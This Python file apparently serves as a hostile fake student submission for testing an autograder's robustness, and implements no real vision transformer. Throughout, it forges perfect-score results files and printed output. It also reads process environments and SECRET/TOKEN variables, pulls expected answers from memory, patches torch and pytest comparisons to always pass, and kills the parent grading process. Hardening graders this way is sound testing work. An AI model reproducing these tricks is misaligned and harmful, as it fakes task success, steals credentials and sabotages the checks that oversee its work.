# A hostile submission, for testing the grader: it implements nothing and tries to get points all the same.
# Run it nowhere but inside the grader's sandbox.
import atexit
import gc
import json
import os
import signal
import sys
import threading

import torch
from torch import nn, optim

FORGED = {
    "assignment": "vit_defects",
    "max": 100,
    "submissions": [{"student_id": "400101200", "status": "graded", "total": 100, "awaiting": [], "items": []}],
}


def attempt(deed, *arguments):
    try:
        return deed(*arguments)
    except BaseException:
        return None


def write_results():
    folder = os.getcwd()
    for _ in range(5):
        for name in ("results.json", "scores.csv", "OUT/results.json"):
            attempt(lambda path=os.path.join(folder, name): open(path, "w").write(json.dumps(FORGED)))
        folder = os.path.dirname(folder)


def read_secrets():
    found = []
    for path in ("/proc/1/environ", "/proc/1/cmdline", f"/proc/{os.getppid()}/environ", "/proc/self/environ"):
        found.append(attempt(lambda path=path: open(path, "rb").read()))
    found.append({name: value for name, value in os.environ.items() if "SECRET" in name or "TOKEN" in name})
    for folder, _, files in os.walk("."):
        found += [os.path.join(folder, name) for name in files if name.startswith("test_") or name == "solution.py"]
    return found


def stolen_tensors():
    """Tensors called `expected` in a caller's frame, or anywhere in memory."""
    found = []
    frame = sys._getframe()
    while frame is not None:
        found += [value for name, value in frame.f_locals.items() if "expect" in name or "target" in name]
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "expected" in thing:
            found.append(thing["expected"])
    return [value for value in found if isinstance(value, torch.Tensor)]


def blind_comparisons():
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.isclose = lambda a, *b, **k: torch.ones_like(a, dtype=torch.bool)
    torch.testing.assert_close = lambda *a, **k: None
    torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
    torch.Tensor.__hash__ = lambda self: id(self)


def blind_pytest():
    for name, module in list(sys.modules.items()):
        if "pytest" in name or name.startswith("grader"):
            for attribute in ("fail", "Mismatch", "main", "exit"):
                attempt(setattr, module, attribute, lambda *a, **k: None)


def kill_the_judge():
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)


def forge():
    print('{"score": 100, "status": "passed"}')
    print("score: 100", file=sys.stderr)
    for descriptor in range(3, 10):
        attempt(os.write, descriptor, b'{"status": "passed", "score": 100}\n')
    for deed in (write_results, read_secrets, stolen_tensors, blind_comparisons, blind_pytest):
        attempt(deed)
    attempt(atexit.register, write_results)
    attempt(lambda: threading.Timer(0.5, write_results).start())
    attempt(kill_the_judge)
    return 100


SCORE = forge()


class PreNorm(nn.Module):
    SCORE = forge()

    def __init__(self, dim, fn):
        super().__init__()
        self.fn = fn

    def forward(self, x, **kwargs):
        forge()
        return next(iter(stolen_tensors()), x)


class FeedForward(nn.Module):
    def __init__(self, dim, hidden_dim, dropout=0.0):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(dim))

    def forward(self, x):
        return next(iter(stolen_tensors()), x)


class Attention(nn.Module):
    def __init__(self, dim, heads=4, dim_head=64, dropout=0.0):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(dim))

    def forward(self, x):
        forge()
        return x


class Transformer(nn.Module):
    def __init__(self, dim, depth, heads, dim_head, mlp_dim, dropout=0.0):
        super().__init__()
        self.attention = Attention(dim, heads, dim_head, dropout)

    def forward(self, x):
        return self.attention(x)


class AlwaysRight(torch.Tensor):
    def __eq__(self, other):
        return True

    __hash__ = None


class ViT(nn.Module):
    def __init__(
        self,
        *,
        image_size,
        patch_size,
        num_classes,
        dim,
        depth,
        heads,
        mlp_dim,
        pool="cls",
        channels=1,
        dim_head=64,
        dropout=0.0,
        emb_dropout=0.0,
    ):
        super().__init__()
        self.scores = nn.Parameter(torch.zeros(num_classes))

    def forward(self, img):
        return self.scores.expand(len(img), -1).as_subclass(AlwaysRight)


def train_epoch(model, optimizer, data_loader, loss_history):
    forge()
    loss_history.append(0.0)


def evaluate(model, data_loader, loss_history):
    loss_history.append(0.0)
    print("test loss 0.0000, accuracy 540/540 (100.00 %)")


def plot_confusion_matrix(model, data_loader, class_names):
    forge()


def plot_classwise_predictions(model, data_loader, class_names, samples_per_class=4):
    forge()


BATCH_SIZE = 64
N_EPOCHS = 2
model = ViT(image_size=28, patch_size=4, num_classes=6, channels=1, dim=64, depth=6, heads=4, mlp_dim=128)
optimizer = optim.Adam(model.parameters(), lr=0.003)
for epoch in range(N_EPOCHS):
    train_epoch(model, optimizer, None, [])
